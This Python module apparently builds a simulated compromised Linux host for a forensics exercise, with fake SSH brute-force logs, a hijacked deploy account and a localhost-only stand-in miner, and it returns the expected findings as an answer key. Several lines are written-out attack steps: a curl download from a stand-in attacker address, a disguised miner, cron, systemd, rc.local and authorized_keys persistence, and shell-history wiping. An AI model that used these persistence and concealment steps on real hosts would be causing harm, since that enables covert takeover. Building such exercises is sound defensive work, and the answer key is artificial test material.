"""Generator of ssh-bruteforce-miner: logs of a brute force and a compromise, a miner, persistence."""

# Paths under /tmp are inside the sandbox host; the random generator only makes data repeatable.
# ruff: noqa: S108, S311, S106

from __future__ import annotations

import os
import random
import shutil
from collections import Counter
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path

from sandbox import utmp
from sandbox.authlog import AuthLog, Session
from sandbox.filetimes import Stamp, stamp_tree
from sandbox.findings import (
    AttackerFile,
    AuthorizedKey,
    DroppedFile,
    ExpectedFindings,
    FailedLogins,
    LoginEvent,
    PersistenceEntry,
    SudoCommand,
    UtmpRecord,
)
from sandbox.hostfiles import (
    Account,
    directory,
    fake_ed25519_public,
    merged_accounts,
    public_key_fingerprint,
    put,
    sha256_file,
    write_accounts,
)
from sandbox.scenario import HostContext, PlannedHost, ProcessSpec
from sandbox.sshd import free_port
from sandbox.syslog import LogLine, last_times, write_rotated

NAME = "ssh-bruteforce-miner"
# (address, hours before `up` the burst starts and ends, connections): one per TEST-NET block.
ATTACKERS = (("203.0.113.45", 30, 25, 40), ("198.51.100.23", 19, 13, 30), ("192.0.2.77", 5, 3, 24))
ENTRY_IP = "192.0.2.77"
ADMIN_IP = "198.51.100.10"
VALID = ("root", "admin", "deploy")
INVALID = ("ubuntu", "oracle", "test", "postgres1", "git", "user")
# Rotation boundaries: before CUT_OLD -> auth.log.2.gz, before CUT_NEW -> auth.log.1.
CUT_OLD_H, CUT_NEW_H = 24, 12
COMPROMISE_AGO = timedelta(hours=2, minutes=50)
KERNEL = "6.1.0-27-amd64"
HIDDEN = "/tmp/.ICE-unix/.x"
MINER = f"{HIDDEN}/kdevtmpfsi"
MINER_ARGV0, MINER_COMM = "[kworker/u8:2]", "kworker/u8:2"
GHOST = f"{HIDDEN}/watchdogd"
PAYLOAD = f"{HIDDEN}/payload.bin"
TMP_DIRS = ("/tmp/.X11-unix", "/tmp/.ICE-unix", "/tmp/.font-unix")
CRONTAB = "/var/spool/cron/crontabs/root"
UNIT_PATH = "/etc/systemd/system/system-update.service"
UNIT_LINK = "/etc/systemd/system/multi-user.target.wants/system-update.service"
LAUNCH = f"cd {HIDDEN} && ./kdevtmpfsi < .s >/dev/null 2>&1"


def payload_bytes(seed: int) -> bytes:
    """The planted sample: harmless, deterministic bytes (its SHA-256 is in tools/data/seed_hashes.txt)."""
    header = b"SLEUTH SANDBOX PLANTED SAMPLE - harmless test data, not malware\n"
    return header + random.Random(seed).randbytes(4096 - len(header))


SUDO = (
    "/usr/bin/id",
    f"/usr/bin/mkdir -p {HIDDEN}",
    f"/usr/bin/curl -fsSL -o {PAYLOAD} http://203.0.113.45/dl/payload.bin",
    f"/usr/bin/cp /bin/bash {MINER}",
    "/usr/bin/tee /etc/cron.d/dbus-kworker",
    "/usr/bin/tee -a /root/.ssh/authorized_keys",
    "/usr/bin/systemctl enable system-update.service",
    f"/usr/bin/bash -c {LAUNCH} &",
)


def _burst(log: AuthLog, rng: random.Random, now: datetime) -> None:
    for ip, start_h, end_h, connections in ATTACKERS:
        start, end = now - timedelta(hours=start_h), now - timedelta(hours=end_h)
        step = (end - start) / connections
        for n in range(connections):
            when = start + step * n + timedelta(seconds=rng.randint(0, 30))
            users = ("deploy",) * 3 + VALID + INVALID if ip == ENTRY_IP else VALID + INVALID
            user = rng.choice(users)
            log.failed_connection(when, ip, user, user in VALID, rng.choice((1, 1, 2)))


def _wtmp(now: datetime, admin: list[Session], entry: Session, entry_end: datetime) -> list[UtmpRecord]:
    boot = now - timedelta(days=5, minutes=13)
    records = [UtmpRecord(type="BOOT_TIME", user="reboot", line="~", host=KERNEL, timestamp=boot)]
    ends = [s.when + timedelta(minutes=25) for s in admin] + [entry_end]
    for session, end in sorted(zip([*admin, entry], ends, strict=True), key=lambda pair: pair[0].when):
        records.append(
            UtmpRecord(
                type="USER_PROCESS",
                user=session.user,
                line="pts/0",
                host=session.ip,
                timestamp=session.when.replace(microsecond=0),
            )
        )
        records.append(UtmpRecord(type="DEAD_PROCESS", user="", line="pts/0", host="", timestamp=end))
    return records


def _login(session: Session, hostname: str, cuts: tuple[datetime, datetime]) -> LoginEvent:
    return LoginEvent(
        user=session.user,
        ip=session.ip,
        port=session.port,
        method="password" if session.method == "password" else "publickey",
        timestamp=session.when,
        log_file=_file_of(session.when, cuts),
        line=session.accepted_line.render(hostname),
    )


def _syslog(rng: random.Random, now: datetime, entry: Session) -> list[LogLine]:
    lines: list[LogLine] = []
    for hours in range(48, 0, -1):
        at = (now - timedelta(hours=hours)).replace(minute=17, second=1)
        lines.append(
            LogLine(
                at,
                "CRON",
                rng.randint(1200, 64000),
                "(root) CMD (cd / && run-parts --report /etc/cron.hourly)",
            )
        )
        if hours % 12 == 0:
            lines.append(
                LogLine(
                    at + timedelta(minutes=9),
                    "systemd",
                    1,
                    "Starting apt-daily.service - Daily apt download activities...",
                )
            )
            lines.append(
                LogLine(
                    at + timedelta(minutes=9, seconds=2),
                    "systemd",
                    1,
                    "apt-daily.service: Deactivated successfully.",
                )
            )
    lines.append(
        LogLine(
            entry.when,
            "systemd",
            1,
            f"Started session-{entry.session_id}.scope - Session {entry.session_id} of User deploy.",
        )
    )
    return lines


def generate(ctx: HostContext) -> PlannedHost:
    """Write the host's files under ctx.tree; return the processes to start and the ground truth."""
    rng = random.Random(ctx.seed * 100 + ctx.index)
    now = ctx.now.replace(microsecond=0)
    accounts = merged_accounts(
        [
            Account("deploy", 1001, "/home/deploy", gecos="Deploy user,,,"),
            Account("admin", 1002, "/home/admin", gecos="Site admin,,,"),
        ]
    )
    uid = {a.name: a.uid for a in accounts}
    admin_key, admin_fp = fake_ed25519_public(rng, "admin@laptop")
    log = AuthLog(rng)
    cuts = (now - timedelta(hours=CUT_OLD_H), now - timedelta(hours=CUT_NEW_H))
    _burst(log, rng, now)
    admin = [
        log.accepted(now - timedelta(hours=h), "admin", uid["admin"], ADMIN_IP, "publickey", admin_fp)
        for h in (47, 23, 7)
    ]
    for session in admin:
        log.closed(session, session.when + timedelta(minutes=25))
    for hours in range(48, 0, -1):
        log.cron_session((now - timedelta(hours=hours)).replace(minute=17, second=1))
    entry = log.accepted(now - COMPROMISE_AGO, "deploy", uid["deploy"], ENTRY_IP, "password")
    files = lay_out_files(ctx, rng, accounts, admin_key)
    sudo: list[SudoCommand] = []
    for n, command in enumerate(SUDO):
        when = entry.when + timedelta(minutes=2 + 2 * n, seconds=rng.randint(0, 50))
        log.sudo(when, "deploy", uid["deploy"], "pts/0", "/home/deploy", command)
        sudo.append(
            SudoCommand(
                user="deploy", tty="pts/0", pwd="/home/deploy", run_as="root", command=command, timestamp=when
            )
        )
    entry_end = entry.when + timedelta(minutes=25)
    log.closed(entry, entry_end)

    log_dir = ctx.path("/var/log")
    rendered = write_rotated(log_dir, "auth.log", log.lines, ctx.hostname, cuts)
    syslog = sorted(_syslog(rng, now, entry), key=lambda line: line.when)
    put(log_dir / "syslog", "".join(line.render(ctx.hostname) + "\n" for line in syslog), 0o640)
    wtmp = _wtmp(now, admin, entry, entry_end)
    utmp.write(log_dir / "wtmp", [(r, 0 if r.type == "BOOT_TIME" else 4000 + i) for i, r in enumerate(wtmp)])
    btmp = [
        UtmpRecord(type="LOGIN_PROCESS", user=f.user, line="ssh:notty", host=f.ip, timestamp=f.when)
        for f in log.failures
    ]
    utmp.write(log_dir / "btmp", [(r, 5000 + i) for i, r in enumerate(btmp)])
    (log_dir / "btmp").chmod(0o660)
    write_accounts(ctx.path("/etc"), accounts)

    by_file = {
        f"/var/log/{name}": sum("Failed password" in line for line in lines)
        for name, lines in rendered.items()
    }
    failed = FailedLogins(
        total=len(log.failures),
        by_ip=dict(sorted(Counter(f.ip for f in log.failures).items())),
        by_user=dict(sorted(Counter(f.user for f in log.failures).items())),
        by_file=by_file,
        invalid_users=tuple(sorted({f.user for f in log.failures if not f.valid_user})),
        invalid_user_lines=log.invalid_user_lines,
    )
    attacker = _attacker_files(entry, sudo, entry_end)
    put(ctx.path(CRONTAB), _crontab(next(a.mtime for a in attacker if a.path == CRONTAB)), 0o600)
    stamps = {a.path: Stamp(a.mtime, a.change == "created") for a in attacker}
    # Not in the ground truth: a directory (its mtime is its last entry's) and a file deleted once it runs.
    stamps[HIDDEN] = Stamp(sudo[1].timestamp, True)
    stamps[GHOST] = Stamp(sudo[3].timestamp + timedelta(seconds=30), True)
    logs = {**last_times(log.lines, cuts, "auth.log"), "syslog": syslog[-1].when}
    logs |= {"wtmp": max(r.timestamp for r in wtmp), "btmp": max(r.timestamp for r in btmp)}
    stamps |= {f"/var/log/{name}": Stamp(when, False) for name, when in logs.items()}
    # /tmp is a tmpfs: it and its socket directories date from the boot wtmp records.
    stamps |= {d: Stamp(wtmp[0].timestamp, True) for d in ("/tmp", *TMP_DIRS)}
    stamp_tree(ctx.tree, now, stamps)
    payload = ctx.path(PAYLOAD)
    findings = ExpectedFindings(
        scenario=NAME,
        hostname=ctx.hostname,
        generated_at=now,
        attacker_ips=tuple(sorted(ip for ip, *_ in ATTACKERS)),
        targeted_users=tuple(sorted({f.user for f in log.failures})),
        failed_logins=failed,
        successful_login=_login(entry, ctx.hostname, cuts),
        legitimate_logins=tuple(_login(s, ctx.hostname, cuts) for s in admin),
        sudo_commands=tuple(sudo),
        processes=(),
        dropped_files=(
            DroppedFile(
                path=PAYLOAD, sha256=sha256_file(payload), size=payload.stat().st_size, in_intel=True
            ),
        ),
        persistence=files.persistence,
        attacker_key_fingerprint=files.attacker_fingerprint,
        attacker_files=attacker,
        authorized_keys=files.authorized_keys,
        wtmp=tuple(wtmp),
        btmp_count=len(btmp),
    )
    return PlannedHost(processes=files.processes, findings=findings, exe_sha256=files.exe_sha256)


def _attacker_files(entry: Session, sudo: list[SudoCommand], logout: datetime) -> tuple[AttackerFile, ...]:
    """What the attacker wrote and when: at its sudo line's second, else between the session's lines."""
    at = [c.timestamp for c in sudo]

    def s(seconds: int) -> timedelta:
        return timedelta(seconds=seconds)

    # (path, mtime, created, index of the sudo command that wrote it or None, is persistence)
    rows = (
        ("/home/deploy/.ssh/authorized_keys", entry.when + s(60), False, None, True),
        (PAYLOAD, at[2], True, 2, False),
        (MINER, at[3], True, 3, False),
        (f"{HIDDEN}/.s", at[3] + s(20), True, None, False),
        (f"{HIDDEN}/.w", at[3] + s(40), True, None, False),
        (f"{HIDDEN}/.p", at[3] + s(45), True, None, False),
        ("/etc/cron.d/dbus-kworker", at[4], True, 4, True),
        (CRONTAB, at[4] + s(40), True, None, True),
        ("/root/.ssh/authorized_keys", at[5], False, 5, True),
        (UNIT_PATH, at[6] - s(30), True, None, True),
        (UNIT_LINK, at[6], True, 6, True),
        ("/etc/rc.local", at[6] + s(40), True, None, True),
        ("/home/deploy/.bash_history", logout, True, None, False),
    )
    return tuple(
        AttackerFile(
            path=path,
            mtime=when,
            change="created" if created else "appended",
            sudo_command=None if n is None else sudo[n].command,
            persistence=persistence,
        )
        for path, when, created, n, persistence in rows
    )


def _crontab(installed: datetime) -> str:
    # crontab(1) names its temporary file and the install time in the header it writes.
    return (
        "# DO NOT EDIT THIS FILE - edit the master and reinstall.\n"
        f"# (/tmp/crontab.Xq3kLm installed on {installed:%a %b %e %H:%M:%S %Y})\n"
        "# (Cron version -- $Id: crontab.c,v 2.13 1994/01/17 03:20:37 vixie Exp $)\n"
        f"{CRONTAB_LINE}\n"
    )


def _file_of(when: datetime, cuts: tuple[datetime, datetime]) -> str:
    if when < cuts[0]:
        return "/var/log/auth.log.2.gz"
    return "/var/log/auth.log.1" if when < cuts[1] else "/var/log/auth.log"


# The sandbox's stand-in for a remote mining pool: accepts and holds connections, never sends.
POOL_CODE = (
    "import socket,sys;s=socket.create_server(('127.0.0.1',int(sys.argv[1])));"
    "h=[s.accept() for _ in iter(int,1)]"
)
# Sets its own comm (ps's short name), connects, then blocks on the socket: no child processes.
MINER_SCRIPT = (
    "printf '%s' '{comm}' > /proc/$$/comm\n"
    "exec 3<>/dev/tcp/127.0.0.1/{port}\n"
    "while read -r -u 3 _; do :; done\n"
)
CRON_D = (
    "SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n"
    f"@reboot root {LAUNCH}\n"
)
CRONTAB_LINE = f"*/15 * * * * pgrep -f 'kworker/u8:2' >/dev/null || ({LAUNCH} &)"
UNIT = (
    f"[Unit]\nDescription=System update service\nAfter=network.target\n\n[Service]\nType=simple\n"
    f"ExecStart=/bin/sh -c '{LAUNCH}'\nRestart=always\n\n[Install]\nWantedBy=multi-user.target\n"
)
E2SCRUB = (
    "# /etc/cron.d/e2scrub_all: crontab entries for the e2scrub_all\n"
    "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/"
    "e2fsprogs/e2scrub_all_cron\n"
)


@dataclass(frozen=True)
class _Files:
    processes: tuple[ProcessSpec, ...]
    persistence: tuple[PersistenceEntry, ...]
    attacker_fingerprint: str
    exe_sha256: dict[str, str]
    authorized_keys: tuple[AuthorizedKey, ...]


def _bash_copy(ctx: HostContext, inside: str) -> Path:
    target = ctx.path(inside)
    shutil.copyfile("/bin/bash", target)
    target.chmod(0o755)
    return target


def lay_out_files(ctx: HostContext, rng: random.Random, accounts: list[Account], admin_key: str) -> _Files:
    """Write /tmp, /etc, /root, /home and /srv of the host; say what to start and what persists."""
    pool_port, http_port = free_port(), free_port()
    uid = {a.name: a.uid for a in accounts}
    for inside, mode in (
        ("/tmp", 0o1777),
        *((d, 0o1777) for d in TMP_DIRS),
        (HIDDEN, 0o755),
        ("/var/spool/cron/crontabs", 0o1730),
        ("/root", 0o700),
        ("/root/.ssh", 0o700),
        ("/etc/cron.d", 0o755),
        ("/srv/www", 0o755),
        ("/etc/systemd/system/multi-user.target.wants", 0o755),
        ("/var/log", 0o755),
        # The launcher writes sshd's keys and config here: created now, the mkdir there moves nothing.
        ("/etc/ssh", 0o755),
    ):
        directory(ctx.path(inside), mode)
    miner, ghost = _bash_copy(ctx, MINER), _bash_copy(ctx, GHOST)
    put(ctx.path(f"{HIDDEN}/.s"), MINER_SCRIPT.format(comm=MINER_COMM, port=pool_port), 0o644)
    put(ctx.path(f"{HIDDEN}/.w"), f"read -r _ <>{HIDDEN}/.p\n", 0o644)
    os.mkfifo(ctx.path(f"{HIDDEN}/.p"), 0o600)
    put(ctx.path(PAYLOAD), payload_bytes(ctx.seed), 0o644)
    put(ctx.path("/srv/www/index.html"), "<html><body>It works.</body></html>\n", 0o644)
    put(ctx.path("/etc/hostname"), f"{ctx.hostname}\n")
    put(ctx.path("/etc/rc.local"), f"#!/bin/sh -e\n# rc.local\n{LAUNCH} &\nexit 0\n", 0o755)
    put(ctx.path("/etc/cron.d/e2scrub_all"), E2SCRUB)
    put(ctx.path("/etc/cron.d/dbus-kworker"), CRON_D)
    systemd = ctx.path("/etc/systemd/system")
    put(ctx.path(UNIT_PATH), UNIT)
    ctx.path(UNIT_LINK).symlink_to(UNIT_PATH)
    (systemd / "multi-user.target.wants/ssh.service").symlink_to("/lib/systemd/system/ssh.service")
    (systemd / "sshd.service").symlink_to("/lib/systemd/system/ssh.service")
    attacker_key, attacker_fp = fake_ed25519_public(rng, "root@kali")
    ci_key, _ = fake_ed25519_public(rng, "deploy@ci-runner")
    # The first key is the sandbox's own client key (infrastructure, no part of the scenario); the
    # attacker appended the second, so the file's mtime is that append's.
    put(
        ctx.path("/root/.ssh/authorized_keys"), f"{ctx.client_public} sleuth-sandbox\n{attacker_key}\n", 0o600
    )
    for account in accounts:
        home = directory(ctx.path(account.home), 0o755, account.uid)
        directory(home / ".ssh", 0o700, account.uid)
        keys = f"{ci_key}\n{attacker_key}\n" if account.name == "deploy" else f"{admin_key}\n"
        put(home / ".ssh/authorized_keys", keys, 0o600, account.uid)
    history = "".join(f"sudo {c.removeprefix('/usr/bin/')}\n" for c in SUDO[1:4]) + "history -c\n"
    put(ctx.path("/home/deploy/.bash_history"), history, 0o600, uid["deploy"])
    persistence = (
        PersistenceEntry(kind="cron.d", path="/etc/cron.d/dbus-kworker", line=f"@reboot root {LAUNCH}"),
        PersistenceEntry(kind="crontab", path="/var/spool/cron/crontabs/root", line=CRONTAB_LINE),
        PersistenceEntry(kind="authorized_keys", path="/root/.ssh/authorized_keys", line=attacker_key),
        PersistenceEntry(kind="authorized_keys", path="/home/deploy/.ssh/authorized_keys", line=attacker_key),
        PersistenceEntry(
            kind="systemd",
            path="/etc/systemd/system/system-update.service",
            line=f"ExecStart=/bin/sh -c '{LAUNCH}'",
        ),
        PersistenceEntry(kind="rc.local", path="/etc/rc.local", line=f"{LAUNCH} &"),
    )
    authorized = tuple(
        AuthorizedKey(
            path=f"{home}/.ssh/authorized_keys",
            fingerprint=public_key_fingerprint(line),
            comment=" ".join(line.split()[2:]),
            origin=origin,
        )
        for home, line, origin in (
            ("/root", f"{ctx.client_public} sleuth-sandbox", "sandbox"),
            ("/root", attacker_key, "attacker"),
            ("/home/deploy", ci_key, "benign"),
            ("/home/deploy", attacker_key, "attacker"),
            ("/home/admin", admin_key, "benign"),
        )
    )
    python = "/usr/bin/python3"
    processes = (
        ProcessSpec(
            role="pool", exe=python, argv=(python, "-S", "-c", POOL_CODE, str(pool_port)), listen=pool_port
        ),
        ProcessSpec(
            role="miner",
            exe=MINER,
            argv=(MINER_ARGV0,),
            stdin=f"{HIDDEN}/.s",
            cwd=HIDDEN,
            comm=MINER_COMM,
            connect=pool_port,
            malicious=True,
        ),
        ProcessSpec(
            role="deleted-exe",
            exe=GHOST,
            argv=("watchdogd",),
            stdin=f"{HIDDEN}/.w",
            cwd=HIDDEN,
            delete_exe=True,
            malicious=True,
        ),
        ProcessSpec(
            role="benign-http",
            exe=python,
            argv=(
                python,
                "-m",
                "http.server",
                str(http_port),
                "--bind",
                "127.0.0.1",
                "--directory",
                "/srv/www",
            ),
            uid=65534,
            user="nobody",
            listen=http_port,
        ),
        ProcessSpec(role="benign-sleep", exe="/usr/bin/sleep", argv=("sleep", "infinity")),
    )
    sha = {
        "miner": sha256_file(miner),
        "deleted-exe": sha256_file(ghost),
        "pool": sha256_file(Path(python)),
        "benign-http": sha256_file(Path(python)),
        "benign-sleep": sha256_file(Path("/usr/bin/sleep")),
    }
    return _Files(processes, persistence, attacker_fp, sha, authorized)
